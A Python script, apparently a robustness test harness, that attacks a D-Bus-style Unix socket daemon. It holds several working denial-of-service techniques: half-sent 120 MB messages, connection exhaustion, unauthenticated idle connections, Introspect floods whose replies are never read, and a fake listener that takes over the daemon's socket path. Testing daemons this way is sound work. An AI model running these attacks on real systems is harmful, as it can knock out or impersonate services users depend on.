"""usage: direct-attacks.py SOCKET ATTACK

Misuses the socket for direct connections, prints what came of it, and stays until it is ended.
"""

import os
import socket
import struct
import sys
import time

path, attack = sys.argv[1], sys.argv[2]


def connect():
    connection = socket.socket(socket.AF_UNIX)
    connection.connect(path)
    return connection


def authenticated():
    connection = connect()
    connection.sendall(b"\0AUTH EXTERNAL %s\r\n" % str(os.getuid()).encode().hex().encode())
    connection.recv(4096)
    connection.sendall(b"BEGIN\r\n")
    return connection


def mechanisms():
    """The ways to say who one is."""
    connection = connect()
    connection.sendall(b"\0AUTH\r\n")
    print("offered:", connection.recv(4096).decode().strip())


def unfinished():
    """Messages of 120 MB, of which the last bytes never come."""
    held = []
    for _ in range(8):
        connection = authenticated()
        connection.settimeout(5)
        held.append(connection)
        try:
            connection.sendall(struct.pack("<BBBBIII", ord("l"), 1, 0, 1, 120 << 20, 1, 16) + bytes(16))
            for _ in range(110):
                connection.sendall(bytes(1 << 20))
        except OSError:
            pass  # it is refused
    print("sent:", len(held))
    return held


def listening(backlog):
    """Takes the place of a daemon's socket."""
    os.makedirs(os.path.dirname(path), mode=0o700, exist_ok=True)
    listener = socket.socket(socket.AF_UNIX)
    listener.bind(path)
    listener.listen(backlog)
    return listener


def never_accepting():
    """Takes no connections."""
    listener = listening(0)
    first = connect()
    print("listening:", path)
    return listener, first


def never_answering():
    """Says nothing to those that connect."""
    listener = listening(64)
    print("listening:", path)
    return listener


def many(count=192):
    """As many connections as the daemon takes."""
    held = []
    for _ in range(count):
        connection = connect()
        connection.settimeout(5)
        try:
            connection.sendall(b"\0AUTH EXTERNAL %s\r\n" % str(os.getuid()).encode().hex().encode())
            if connection.recv(4096).startswith(b"OK"):
                connection.sendall(b"BEGIN\r\n")
                held.append(connection)
        except OSError:
            pass  # it is turned away
    print("taken:", len(held))
    return held


def silent():
    """As many connections as the daemon takes, of 32, none of which says who it is."""
    held = [connect() for _ in range(32)]
    print("taken:", len(held))
    return held


def deaf():
    """As many connections as the daemon takes, of 32, with calls of which no answer is read."""
    held = many(32)
    for connection in held:
        connection.setblocking(False)
        try:
            connection.sendall(introspection() * 64)
        except OSError:
            pass  # no more is read
    return held


def introspection():
    """A call with a long answer."""
    fields = b""
    for code, kind, text in [
        (1, b"o", b"/org/launchservices/LaunchServices1"),
        (2, b"s", b"org.freedesktop.DBus.Introspectable"),
        (3, b"s", b"Introspect"),
        (6, b"s", b"org.launchservices.LaunchServices1"),
    ]:
        fields += bytes(-len(fields) % 8)
        fields += struct.pack("<BB2sI", code, 1, kind + b"\0", len(text)) + text + b"\0"
    call = struct.pack("<BBBBIII", ord("l"), 1, 0, 1, 0, 1, len(fields)) + fields
    return call + bytes(-len(call) % 8)


def unread():
    """Calls without end on 30 connections, of which no answer is read."""
    call = introspection() * 16
    unsent = {}
    for _ in range(30):
        connection = authenticated()
        connection.setblocking(False)
        unsent[connection] = call
    full = set()
    while True:
        for connection in unsent:
            try:
                while True:
                    unsent[connection] = unsent[connection][connection.send(unsent[connection]):] or call
            except BlockingIOError:
                if full is not None:
                    full.add(connection)
        if full is not None and len(full) == len(unsent):
            print("full:", len(full), flush=True)
            full = None
        time.sleep(0.001)


attacks = {
    "mechanisms": mechanisms, "unfinished": unfinished, "never-accepting": never_accepting,
    "never-answering": never_answering, "many": many, "unread": unread,
    "silent": silent, "deaf": deaf,
}
held = attacks[attack]()
sys.stdout.flush()
time.sleep(600)
